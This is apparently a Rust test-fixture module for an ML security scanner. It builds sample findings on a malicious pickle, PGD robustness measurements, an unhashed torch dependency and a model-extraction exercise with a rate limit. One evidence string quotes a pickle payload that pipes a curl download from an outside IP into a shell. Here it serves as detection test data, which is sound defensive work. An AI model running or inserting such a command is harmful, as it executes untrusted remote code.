//! What checks, attacks and exercises found.

use std::collections::BTreeMap;

use vauban_domain::{
    AssetKind, ControlSetting, Curve, Evidence, Exercise, ExerciseRun, Finding, Interval, Locator,
    Measurement, Outcome, Rule, Severity, Usefulness, Verdict,
};

use super::{HOSTILE, PICKLE, UNHASHED, WEAK, id, november, reader, triage};

pub(super) fn findings() -> Vec<Finding> {
    let mut at_call = Evidence::new(
        Locator::file("models/triage.pkl").in_member("archive/data.pkl").at_offset(131),
        "os.system",
        "os.system('curl http://198.51.100.7/x | sh')",
    );
    at_call.observed_at = Some(november(18));
    let hostile_asset = id(AssetKind::Notebook, HOSTILE);
    let mut findings = vec![
        Finding::new(&PICKLE, &triage(), "loading calls os.system", vec![at_call]),
        Finding::new(
            &WEAK,
            &reader(),
            "robust accuracy is 12 % at eps 0.1, below the declared 50 %",
            vec![Evidence::new(
                Locator::file("models/form-reader.onnx"),
                "pgd-linf",
                "24 of 200 samples hold",
            )],
        ),
        Finding::new(
            &UNHASHED,
            &id(AssetKind::Package, "pypi/torch"),
            "torch 2.9.1 has no hash",
            vec![Evidence::new(Locator::file("requirements.txt").at_line(3), "torch", "torch==2.9.1")],
        ),
        Finding::new(
            &UNHASHED,
            &hostile_asset,
            HOSTILE,
            vec![Evidence::new(Locator::file(HOSTILE).at_line(1).at_key(HOSTILE), HOSTILE, HOSTILE)],
        )
        .with_severity(Severity::Low),
    ];
    findings.sort_by(|a, b| b.severity.cmp(&a.severity).then_with(|| a.fingerprint.cmp(&b.fingerprint)));
    findings
}

pub(super) fn outcomes() -> Vec<Outcome> {
    let outcome = |rule: &Rule, asset, verdict| Outcome { rule: rule.id.clone(), asset, verdict };
    let cnn = reader();
    vec![
        outcome(&UNHASHED, id(AssetKind::Package, "pypi/torch"), Verdict::Found(1)),
        outcome(&WEAK, cnn.clone(), Verdict::Found(1)),
        outcome(&WEAK, triage(), Verdict::Skipped("no test data is declared for it".to_owned())),
        outcome(&PICKLE, cnn, Verdict::NotApplicable("no pickle".to_owned())),
        outcome(&PICKLE, triage(), Verdict::Found(1)),
        outcome(
            &PICKLE,
            id(AssetKind::Notebook, HOSTILE),
            Verdict::Failed(format!("could not read {HOSTILE}")),
        ),
        outcome(&UNHASHED, triage(), Verdict::Clean),
    ]
}

pub(super) fn measurements() -> Vec<Measurement> {
    let measurement = |attack: &str, metric: &str, value: f64, successes, curve: Curve| Measurement {
        id: format!("{attack}/{metric}/models/form-reader.onnx"),
        asset: reader(),
        techniques: vec!["AML.T0015".into()],
        attack: attack.to_owned().into(),
        metric: metric.to_owned().into(),
        value,
        interval: Interval::wilson(successes, 200),
        trials: 200,
        queries: 16_000,
        seed: 7,
        parameters: BTreeMap::from([
            ("norm".to_owned(), "linf".to_owned()),
            ("eps".to_owned(), "0.1".to_owned()),
            ("steps".to_owned(), "40".to_owned()),
        ]),
        curves: vec![curve],
        notes: vec!["the random-noise control keeps 97 %".to_owned()],
        ..Measurement::new(&reader(), "", "")
    };
    let robust = Curve {
        x: "eps (L-infinity)".to_owned(),
        y: "robust accuracy".to_owned(),
        points: vec![(0.0, 0.98), (0.025, 0.81), (0.05, 0.52), (0.075, 0.27), (0.1, 0.12)],
    };
    let copied = Curve {
        x: "queries".to_owned(),
        y: "fidelity".to_owned(),
        points: vec![(100.0, 0.61), (500.0, 0.83), (2000.0, 0.94)],
    };
    vec![
        measurement("copycat", "surrogate-fidelity", 0.94, 188, copied),
        measurement("pgd-linf", "robust-accuracy", 0.12, 24, robust),
    ]
}

pub(super) fn exercise() -> Exercise {
    let run = |controls: Vec<ControlSetting>, success, refused, seconds| ExerciseRun {
        controls,
        measurement: "copycat/surrogate-fidelity/models/form-reader.onnx".to_owned(),
        success,
        requests: 2000,
        refused,
        alerts: vec!["extraction-querying".to_owned()],
        seconds_to_alert: seconds,
        usefulness: Some(Usefulness {
            accuracy: 0.96,
            interval: Interval::wilson(240, 250),
            samples: 250,
            ordinary_refused: (refused > 0).then_some(0.02),
        }),
    };
    let limit = ControlSetting {
        control: "rate-limit".to_owned(),
        setting: "60 requests a minute per client".to_owned(),
    };
    Exercise {
        id: "copycat/models/form-reader.onnx".to_owned(),
        asset: reader(),
        techniques: vec!["AML.T0024.002".into()],
        attack: "copycat".to_owned(),
        runs: vec![run(vec![], 0.94, 0, Some(41.5)), run(vec![limit], 0.58, 1700, None)],
        detected: true,
        holding: vec!["rate-limit".to_owned()],
        findings: vec![],
        transcript: vec!["2,000 queries sent in 300 s".to_owned(), "alert after 41.5 s".to_owned()],
    }
}
